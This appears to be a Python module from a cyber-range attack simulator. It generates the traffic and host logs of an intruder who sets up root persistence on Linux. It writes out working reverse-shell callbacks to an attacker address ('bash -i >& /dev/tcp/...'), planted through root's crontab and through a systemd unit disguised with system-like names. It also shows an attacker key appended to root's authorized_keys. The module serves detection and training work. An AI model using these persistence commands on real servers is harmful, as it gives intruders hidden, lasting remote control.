"""Persistence as root on a Linux server, MITRE ATT&CK T1053.003 Scheduled Task/Job: Cron,
T1543.002 Create or Modify System Process: Systemd Service, T1098.004 Account Manipulation: SSH
Authorized Keys.

Imitates an intruder with a root shell (a fresh callback from the privilege escalation's root
shell; :mod:`attack_scripts._shellsession`) making sure to get back in (``method``, one or a list):

* ``cron``: ``echo "*/10 * * * * /bin/bash -c 'bash -i >& /dev/tcp/ATTACKER/PORT 0>&1'" |
  crontab -``, then ``crontab -l`` to check: root's crontab calls back every ten minutes;
* ``systemd``: ``printf '[Unit]...' > /etc/systemd/system/NAME.service`` (a unit named like a
  system one whose ``ExecStart`` is the same callback, ``Restart=always``), ``systemctl
  daemon-reload``, ``systemctl enable NAME.service``;
* ``authorized_keys``: ``mkdir -p /root/.ssh``, the intruder's Ed25519 key appended to
  ``/root/.ssh/authorized_keys``, ``chmod 600``.

The names (the unit, the key) are the same for every step of a team (:func:`planted`), so the
``log_tampering`` step timestomps what this one planted. The callbacks it schedules are not
played (they would come after the scenario's steps).

The traffic: the reverse shell's connection with each line and its answer (``crontab -l``'s
line, systemctl's ``Created symlink ...``), in clear.

On the server (host records): the callback's processes and connection, then ``crontab -``
(root's crontab written, file_event ``/var/spool/cron/crontabs/root``, and its syslog line
``(root) REPLACE (root)``), the unit file the shell's redirection writes, ``systemctl`` and the
symlink systemd makes for ``enable`` (file_event by ``/usr/lib/systemd/systemd``, syslog
``Reloading.``), ``mkdir``, the key appended by the shell, ``chmod``.
"""
from __future__ import annotations

import base64
from typing import Literal

from pydantic import Field, field_validator

from attack_scripts import _linux, _ssh
from attack_scripts._shellsession import Session, SessionParams, bound, play
from range.core import derive, rng
from range.traffic import HostLog, Proc, StepContext, Technique, technique

Method = Literal["cron", "systemd", "authorized_keys"]
METHODS = ("cron", "systemd", "authorized_keys")
UNITS = ["dbus-broker-helper", "systemd-timesync-check", "php-fpm-monitor", "network-online-helper",
         "apt-daily-cleanup", "nginx-cache-warm"]
_WORST_IP = "255.255.255.255"


class Params(SessionParams):
    method: Method | list[Method] = Field(default=list(METHODS),
                                          description="cron, systemd, authorized_keys, or a list of them")
    callback_port: int = Field(default=4444, ge=1, le=65535, description="the port the planted callbacks call")

    @field_validator("method")
    @classmethod
    def _as_list(cls, v: str | list[str]) -> list[str]:
        v = [v] if isinstance(v, str) else v
        if not v or len(set(v)) != len(v):
            raise ValueError("name each method once, at least one")
        return v


def planted(layout, node: str) -> dict[str, str]:
    """The file each method writes on ``node`` (the same for every step of a team)."""
    unit = UNITS[derive("unit", layout.team, layout.seed, node) % len(UNITS)]
    return {"cron": "/var/spool/cron/crontabs/root", "systemd": f"/etc/systemd/system/{unit}.service",
            "authorized_keys": "/root/.ssh/authorized_keys"}


def intruder_key(layout) -> str:
    """The intruder's public key line (``ssh-ed25519 AAAA... kali@kali``)."""
    blob = _ssh.user_key(rng("intruder-key", layout.team, layout.seed))
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} kali@kali"


def _callback(ip: str, port: int) -> str:
    return f"/bin/bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'"


def _unit(ip: str, port: int, description: str) -> str:
    return (f"[Unit]\\nDescription={description}\\nAfter=network-online.target\\n\\n[Service]\\nType=simple\\n"
            f"ExecStart=/bin/bash -c \"bash -i >& /dev/tcp/{ip}/{port} 0>&1\"\\nRestart=always\\nRestartSec=60\\n\\n"
            "[Install]\\nWantedBy=multi-user.target\\n")


def lines(method: list[str], ip: str, port: int, unit: str, key: str) -> list[tuple[str, str]]:
    """(line typed, what it answers) for each method, in order."""
    cron = f"*/10 * * * * {_callback(ip, port)}"
    name = unit.rsplit("/", 1)[1]
    by_method = {
        "cron": [(f"echo \"{cron}\" | crontab -", ""), ("crontab -l", cron + "\n")],
        "systemd": [(f"printf '{_unit(ip, port, name[:-8].replace('-', ' ').capitalize())}' > {unit}", ""),
                    ("systemctl daemon-reload", ""),
                    (f"systemctl enable {name}", f"Created symlink /etc/systemd/system/multi-user.target.wants/{name}"
                                                 f" \u2192 {unit}.\n")],
        "authorized_keys": [("mkdir -p /root/.ssh", ""), (f"echo '{key}' >> /root/.ssh/authorized_keys", ""),
                            ("chmod 600 /root/.ssh/authorized_keys", "")],
    }
    return [line for m in method for line in by_method[m]]


class _Effects:
    """What the lines do on the node besides their processes (systemd is pid 1)."""

    def __init__(self, log: HostLog, node: str, unit: str):
        self.log, self.node, self.unit = log, node, unit
        self.systemd = HostLog.daemon(node, 1, "/usr/lib/systemd/systemd", "/sbin/init")

    def does(self, line: str):
        """``line``'s processes, and what each program among them does besides."""
        def run(t: float, shell: Proc, _until: float | None) -> list[Proc]:
            procs = _linux.run(self.log, t, shell, line)
            for proc in procs:
                extra = self.BY_PROGRAM.get(proc.image.rsplit("/", 1)[1])
                if extra:
                    extra(self, t + self.log.rng.uniform(0.002, 0.01), proc)
            return procs
        return run

    def _crontab(self, t: float, proc: Proc) -> None:
        if proc.command_line.split()[1:] == ["-"]:
            self.log.file(t, proc, "/var/spool/cron/crontabs/root")
            self.log.syslog(t + 0.0005, self.node, "crontab", proc.pid, "(root) REPLACE (root)", facility="cron")

    def _systemctl(self, t: float, proc: Proc) -> None:
        self.log.syslog(t, self.node, "systemd", 1, "Reloading.", facility="daemon")
        if proc.command_line.split()[1] == "enable":
            name = self.unit.rsplit("/", 1)[1]
            self.log.file(t + 0.02, self.systemd, f"/etc/systemd/system/multi-user.target.wants/{name}")

    BY_PROGRAM = {"crontab": _crontab, "systemctl": _systemctl}


@technique
class Persistence(Technique):
    name = "persistence"
    attack = "T1053.003"
    tactic = "persistence"
    summary = "as root: a crontab callback, a systemd unit enabled, a key in root's authorized_keys"
    Params = Params
    max_targets = 1

    def duration(self, p: Params) -> float:
        worst = lines(p.method, _WORST_IP, p.callback_port, "/etc/systemd/system/" + "x" * 40, "k" * 110)
        return bound([typed for typed, _ in worst], p.think)

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        node = ctx.targets[0].name
        unit = planted(ctx.layout, node)["systemd"]
        todo = lines(p.method, ctx.source.ip, p.callback_port, unit, intruder_key(ctx.layout))
        effects = _Effects(ctx.host, node, unit)

        def script(s: Session) -> list:
            for typed, answer in todo:
                s.type(typed, answer, does=effects.does(typed))
            return []

        return play(ctx, p, "root", script, self.duration(p))
